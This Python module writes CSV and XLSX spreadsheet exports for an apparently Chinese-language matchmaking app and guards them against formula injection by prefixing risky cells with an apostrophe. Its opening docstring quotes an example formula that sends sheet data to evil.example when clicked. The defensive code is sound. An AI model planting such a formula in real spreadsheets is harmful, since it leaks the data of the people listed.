"""The one writer of spreadsheet exports (.csv and .xlsx): every cell goes through `neutralize`.

A cell whose text starts with = + - @ tab or CR is a live formula in Excel and LibreOffice (a need
titled `=HYPERLINK("http://evil.example/?x="&A1, ...)` would send the sheet's data away when
clicked), so such text gets a leading apostrophe. Numbers stay numbers. Every export, whatever
its layout (one table, several sheets, a title line above the header), is written here.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal

import openpyxl
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from matchmaker.core.exceptions import ServiceError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Content types for a Response's `content_type` (not `mimetype`, which would add a second charset).
MIMETYPES = {"csv": "text/csv; charset=utf-8", "xlsx": XLSX}


def neutralize(value):
    """Make a text cell inert in spreadsheets: a leading = + - @ tab or CR gets a quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell_value(value):
    """A plain value for a cell: text neutralized, lists joined, dates as ISO text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, (list, tuple)):
        return neutralize("、".join(str(v) for v in value))
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, (int, float)):
        return value
    return neutralize(str(value))


@dataclass
class Sheet:
    """One sheet: optional title lines, a bold header, rows; column widths by letter."""

    title: str
    header: Sequence
    rows: Iterable[Sequence]
    preface: Sequence[Sequence] = ()
    widths: dict[str, float] = field(default_factory=dict)


def write_table(header: list[str], rows, fmt: str, title: str = "导出") -> bytes:
    """Write rows as .csv (UTF-8 with BOM, for Excel) or .xlsx, with formula cells neutralized."""
    return write_sheets([Sheet(title, header, rows)], fmt)


def write_sheets(sheets: list[Sheet], fmt: str) -> bytes:
    """Write sheets as .xlsx, or the single sheet as .csv."""
    if fmt == "csv":
        if len(sheets) != 1:
            raise ServiceError("多个工作表只能导出为 xlsx", field="format")
        return _csv(sheets[0])
    if fmt != "xlsx":
        raise ServiceError("导出格式应为 xlsx 或 csv", field="format")
    book = openpyxl.Workbook(write_only=True)
    for sheet in sheets:
        _xlsx_sheet(book, sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv(sheet: Sheet) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    for row in (*sheet.preface, sheet.header):
        writer.writerow([cell_value(v) for v in row])
    for row in sheet.rows:
        writer.writerow([cell_value(v) for v in row])
    return b"\xef\xbb\xbf" + out.getvalue().encode("utf-8")


def _xlsx_sheet(book, sheet: Sheet) -> None:
    ws = book.create_sheet(neutralize_title(sheet.title))
    for letter, width in sheet.widths.items():
        ws.column_dimensions[letter].width = width
    for i, row in enumerate(sheet.preface):
        ws.append([_bold(ws, v, size=13 if i == 0 else None) for v in row])
    ws.append([_bold(ws, v) for v in sheet.header])
    for row in sheet.rows:
        ws.append([cell_value(v) for v in row])


def _bold(ws, value, size=None) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=cell_value(value))
    cell.font = Font(bold=True, size=size) if size else Font(bold=True)
    return cell


def neutralize_title(title: str) -> str:
    """A sheet name Excel accepts: at most 31 characters, none of []:*?/\\ ."""
    cleaned = "".join("_" if ch in "[]:*?/\\" else ch for ch in str(title)).strip("'")
    return cleaned[:31] or "导出"
